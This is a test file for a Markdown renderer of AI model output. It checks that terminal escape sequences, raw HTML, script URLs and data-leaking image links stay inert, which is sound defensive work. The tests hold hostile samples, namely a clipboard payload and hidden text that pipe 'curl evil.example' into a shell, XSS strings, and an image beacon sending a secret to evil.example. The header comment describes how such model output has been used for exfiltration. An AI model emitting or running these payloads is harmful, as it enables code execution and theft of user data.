import { createElement } from 'react'
import { renderToStaticMarkup } from 'react-dom/server'
import { describe, expect, it } from 'vitest'
import { HOSTILE } from '../../../shared/terminalText.test-support'
import { Markdown } from './Markdown'

/*
 * The app shows model and tool text through React (text nodes, escaped) and this Markdown view,
 * the only place that turns text into elements; nothing in the renderer sets innerHTML. Terminal
 * sequences have no meaning in a page, so they must stay text, and the Markdown must not let
 * HTML, script URLs or image loads through. Cases: OSC 8 / OSC 52 (Rehberger, "Terminal
 * DiLLMa", 2024), raw HTML in model output (OWASP LLM05 "Improper Output Handling"), image
 * beacons that leak data (the exfiltration pattern Rehberger showed against Bing Chat, 2023).
 */
const render = (text: string): string => renderToStaticMarkup(createElement(Markdown, { text }))

describe('Markdown of model text', () => {
  it('keeps terminal escape sequences as text', () => {
    const html = render(`${HOSTILE.clipboard}\n\n${HOSTILE.link}\n\n${HOSTILE.hidden}`)
    expect(html).toContain('\x1b]52;c;Y3VybCBldmlsLnNoIHwgc2g=')
    // The hidden target of an OSC 8 link is shown as what it is: the URL, as its own text.
    expect(html).toContain('>https://evil.example/\x1b')
    expect(html).toContain('safe\x1b[8m; curl evil.example | sh\x1b[0m')
  })

  it('does not pass raw HTML, script URLs or image loads', () => {
    const html = render(
      [
        '<script>alert(1)</script>',
        '<img src=x onerror=alert(1)>',
        '[click](javascript:alert(1))',
        '![x](https://evil.example/leak?d=secret)',
      ].join('\n\n'),
    )
    expect(html).not.toMatch(/<(script|img)\b|<[^>]*\sonerror=|href="javascript:/i)
    expect(html).toContain('&lt;script&gt;')
    expect(html).toContain('&lt;img src=x onerror=alert(1)&gt;')
    expect(html).toContain('[image: x]')
  })
})
